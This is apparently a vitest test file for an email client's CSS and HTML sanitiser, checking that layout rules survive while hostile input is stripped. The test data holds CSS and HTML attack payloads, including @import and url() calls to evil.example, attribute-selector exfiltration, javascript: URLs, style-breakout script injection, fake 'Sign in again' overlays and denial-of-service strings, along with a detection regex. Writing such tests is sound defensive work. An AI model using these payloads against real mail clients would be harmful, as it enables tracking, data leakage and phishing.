import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { remotePictures, replaceRemotePictures } from './remote-pictures.ts'
import { sanitiseHtml } from './sanitise-html.ts'
import { readMailStyle } from './sanitise-style-sheet.ts'

const cssOf = (css: string) => readMailStyle(`<style>${css}</style>`).css

describe('what a design needs stays', () => {
  test.each([
    {
      because: 'rules by element, class and id',
      css: 'p, td.a { color: RED } #b > h1 {margin:0}',
      want: 'p,td.m-a{color:RED}\n#m-b > h1{margin:0}',
    },
    {
      because: 'the page is the mail’s body',
      css: 'html body{margin:0} body.x{padding:1px} :root{color:red}',
      want: '[data-body]{margin:0}\n[data-body].m-x{padding:1px}\n[data-body]{color:red}',
    },
    {
      because: 'narrow screens, with their weight',
      css: '@media only screen and (max-width: 600px) { .w { width: 100% !important } }',
      want: '@media (max-width:600px){.m-w{width:100%!important}}',
    },
    {
      because: 'the frame is the device',
      css: '@media screen and (max-device-width:480px),print{.w{float:none}}',
      want: '@media (max-width:480px){.m-w{float:none}}',
    },
    {
      because: 'dark and light',
      css: '@media (prefers-color-scheme: dark){.w{background:#000}}',
      want: '@media (prefers-color-scheme:dark){.m-w{background:#000}}',
    },
    {
      because: 'links and stripes',
      css: 'a:link{color:red} tr:nth-child(2n+1) td:first-child{color:red}',
      want: 'a:link{color:red}\ntr:nth-child(2n+1) td:first-child{color:red}',
    },
    {
      because: 'what Outlook writes',
      css: 'p.MsoNormal, li.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif; mso-fareast-language:EN-US;} @page WordSection1 {size:612.0pt 792.0pt;}',
      want: 'p.m-MsoNormal,li.m-MsoNormal{margin:0cm;font-family:"Calibri",sans-serif}',
    },
    { because: 'comments within and around', css: '<!-- /* a */ p{/* b */color:red} -->', want: 'p{color:red}' },
    {
      because: 'a broken rule costs itself alone',
      css: 'p{color:red} td{color:} } .a{color:"} .b{padding:1px}',
      want: 'p{color:red}',
    },
    {
      because: 'a picture behind, alone',
      css: '.a{background:#fff url(https://p.example/a.png) no-repeat !important}',
      want: '.m-a{background:#fff no-repeat!important;background-image:url("https://p.example/a.png")!important}',
    },
  ])('$because', ({ css, want }) => expect(cssOf(css)).toContain(want))

  test('sheets are found outside of comments, and their names are what the HTML keeps', () => {
    const html =
      '<!--[if mso]><style>.o{color:red}</style><![endif]--><STYLE type="text/css">.a{color:red}</STYLE><!--[if !mso]><!--><style>#b{color:red}</style><!--<![endif]--><p class="a o x" id="b">x</p>'
    const { css, names } = readMailStyle(html)
    expect(css).toBe('.m-a{color:red}\n#m-b{color:red}')
    const clean = sanitiseHtml(html, names)
    expect(clean).toBe('<p class="m-a" id="m-b">x</p>')
    expect(sanitiseHtml(clean, names)).toBe(clean)
  })
})

/** Nothing that fetches, lifts, hides from the reader, reacts to him, or tells what the mail says. */
const dangers =
  /details|summary|<|@(?!media )|\[(?!data-body\])|url\((?!"https?:\/\/[^"'()\\<>\s]*"\))|position|expression|behavio|binding|:visited|:hover|:focus|:has|content:|javascript|\\/i

describe('abuse-03 nothing leaves the frame, nothing covers the app', () => {
  test.each([
    '@import "https://evil.example/x.css";',
    '@import url(https://evil.example/x.css);p{color:red}',
    '@IMPORT/**/"//evil.example"',
    '@\\69mport "https://evil.example/x.css";',
    '@charset "utf-7"; @namespace x url(https://evil.example);',
    '@font-face{font-family:x;src:url(https://evil.example/f)}',
    '@keyframes x{from{position:fixed}}',
    '@supports (display:grid){p{position:fixed}}',
    '@media screen{@import "x";p{position:fixed}}',
    '@media screen and (min-width:1px) and (script){p{position:fixed}}',
    '@media (max-width:1px){@media screen{p{position:fixed}}}',
    'p{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9}',
    'p{pos\\69tion:fixed}',
    'p{position/**/:fixed}',
    'p{margin:-9999px;transform:scale(99)}',
    'p{background:url("javascript:alert(1)")}',
    'p{background:url(data:text/html,x)}',
    'p{background:url(//evil.example/p"onload="x)}',
    'p{background-image:image-set("https://evil.example/p" 1x)}',
    'p{background:URL(https://evil.example/a) , url(https://evil.example/b)}',
    'p{cursor:url(https://evil.example/p),auto}',
    'p{list-style:url(https://evil.example/p)}',
    'p{border-image:url(https://evil.example/p)}',
    'p{content:"x";filter:url(#x);mask:url(https://evil.example/p)}',
    'p::before{content:"Sign in again"}',
    'a[href^="https://secret"]{background:url(https://evil.example/secret)}',
    'input[value^=a]{color:red}',
    'details,details > summary.x{display:none}',
    'a:visited{background:url(https://evil.example/v)}',
    'a:hover{background:url(https://evil.example/h)}',
    'p:has(a){color:red}',
    'p{width:expression(alert(1));behavior:url(x);-moz-binding:url(x)}',
    'p{color:red}</style><script>alert(1)</script>',
    'p{font-family:"</style><script>alert(1)</script>"}',
    'p{font-family:"\\3c/style>"}',
    'p{--x:url(https://evil.example);color:var(--x)}',
    '.a\\{position:fixed\\}{color:red}',
    '*{}{position:fixed}',
    'p{color:red;{position:fixed}}',
    '<!-- p{position:fixed} -->',
    '/* */ /*',
    "p{font-family:'x",
    '\0p{position:fixed}',
  ])('%s', (css) => expect(cssOf(css)).not.toMatch(dangers))

  const pieces = fc.constantFrom(
    ...[
      'p',
      '.a',
      '#b',
      '*',
      'a[href]',
      ':hover',
      '::after',
      '{',
      '}',
      ';',
      ':',
      ',',
      '@media',
      '@import',
      '(max-width:9px)',
    ],
    ...[
      'color:red',
      'position:fixed',
      'background:',
      'url(',
      'https://x.example/',
      ')',
      '"',
      "'",
      '\\',
      '/*',
      '*/',
      '<',
      '</style',
      '-->',
      '!important',
      ' ',
      '\n',
      '\0',
      'content:"x"',
      'var(--x)',
    ],
  )
  test('any soup comes out harmless', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (list) => {
        expect(cssOf(list.join(''))).not.toMatch(dangers)
      }),
      { numRuns: 3_000 },
    )
  })

  test.each([
    ['nested without end', '@media screen{'.repeat(10_000)],
    ['selectors without end', `${'p,'.repeat(70_000)}p{color:red}`],
    ['blanks', `p ${' '.repeat(140_000)}{color:red}`],
    ['sheets that never close', '<style>'.repeat(50_000)],
    ['comments that never close', '<!--<style>'.repeat(50_000)],
    ['quotes that never close', 'p{font-family:"'.repeat(9_000)],
  ])('abuse-14 %s cost no time', (_, css) => {
    const start = performance.now()
    readMailStyle(`<style>${css}`)
    cssOf(css)
    expect(performance.now() - start).toBeLessThan(2_000)
  })
})

describe('pictures behind elements', () => {
  test.each([
    {
      because: 'of a style',
      html: '<td style="background:#eee url(\'https://p.example/a.png?x=1&amp;y=2\') center / cover">x</td>',
      want: '<td style="background:#eee center / cover" data-background="https://p.example/a.png?x=1&amp;y=2">x</td>',
    },
    {
      because: 'of an attribute',
      html: '<table background="//p.example/a.png"></table>',
      want: '<table data-background="https://p.example/a.png"></table>',
    },
    {
      because: 'of the body, with its colours',
      html: '<body bgcolor="#123" text="white" background="http://p.example/"><p>x</p></body>',
      want: '<div bgcolor="#123" style="background-color:#123;color:white" data-background="http://p.example/" data-body><p>x</p></div>',
    },
    {
      because: 'that are none',
      html: '<td background="javascript:alert(1)" style="background:url(x)">x</td>',
      want: '<td>x</td>',
    },
    {
      because: 'that would end the rule',
      html: '<td background="https://p.example/&quot;)}p{x">x</td>',
      want: '<td data-background="https://p.example/%22%29%7Dp%7Bx">x</td>',
    },
  ])('$because', ({ html, want }) => {
    expect(sanitiseHtml(html)).toBe(want)
    expect(sanitiseHtml(want)).toBe(want)
  })

  test('every address has its place, in HTML and style, and text that looks like one has none', () => {
    const html =
      '<img data-remote="https://a.example/?x=1&amp;y" /><td data-background="https://b.example/">say  data-remote="https://no.example/"</td>'
    const style = '.m-a{color:red;background-image:url("https://c.example/")}'
    expect(remotePictures(html, style)).toEqual([
      'https://a.example/?x=1&y',
      'https://b.example/',
      'https://c.example/',
    ])
    expect(replaceRemotePictures(html, style, (_, place) => `/p/${place}`)).toEqual({
      html: '<img src="/p/0" /><td data-background="1">say  data-remote="https://no.example/"</td>',
      style:
        '.m-a{color:red;background-image:url("/p/2")}\n[data-background="1"]{background-image:url("/p/1")!important}',
    })
    expect(replaceRemotePictures(html, style, () => '')).toEqual({
      html: '<img /><td>say  data-remote="https://no.example/"</td>',
      style: '.m-a{color:red;}',
    })
  })
})
